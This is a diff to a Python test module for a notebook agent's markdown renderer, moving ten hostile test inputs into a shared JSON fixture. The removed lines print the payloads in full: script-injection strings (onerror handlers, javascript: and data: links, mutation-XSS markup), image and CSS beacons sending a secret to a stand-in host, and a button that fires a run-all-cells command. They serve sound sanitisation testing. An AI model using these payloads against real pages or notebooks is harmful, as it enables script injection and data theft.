@@ -7,6 +7,7 @@ cell can ``import nbtest_sources``.
 from __future__ import annotations
 
 import json
+from pathlib import Path
 import threading
 import time
 from collections.abc import Iterator
@@ -22,22 +23,10 @@ from nbagent import (
     ToolResult,
 )
 
-# rendering.md §5: the ten hostile inputs, verbatim.
-HOSTILE = [
-    'Hello <img src=x onerror="window.__pwned=1"> world',
-    "<script>window.__pwned=1</script>\n\nafter",
-    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1)) "
-    "<javascript:alert(1)> [e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x)",
-    "See [docs][x].\n\n[x]: javascript:window.__pwned=1",
-    '![chart](https://beacon.test/p.png?leak=SECRET) <img src="https://beacon.test/r.png">',
-    '<div style="background:url(https://beacon.test/c)">x</div>\n\n'
-    "<style>@import url(https://beacon.test/i.css);</style>",
-    '<button data-commandlinker-command="notebook:run-all-cells">Continue</button>',
-    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
-    '<a href="https://ok.test" title="\n\n" onmouseover="window.__pwned=1">hover</a>',
-    "Intro **bold and `code\n\n| a | b |\n|---|\n\n[link](javascript:alert(1)\n\n$$\n\\frac{1}{\n\n"
-    "```python\nprint('<img src=x onerror=alert(1)>')\n# **not bold**",
-]
+# rendering.md §5: the ten hostile inputs, shared with the other security tests.
+HOSTILE: list[str] = json.loads(
+    (Path(__file__).resolve().parents[2] / "fixtures" / "hostile.json").read_text()
+)
 
 
 def sliced(text: str, size: int = 3, delay: float = 0.01) -> Iterator[str]:
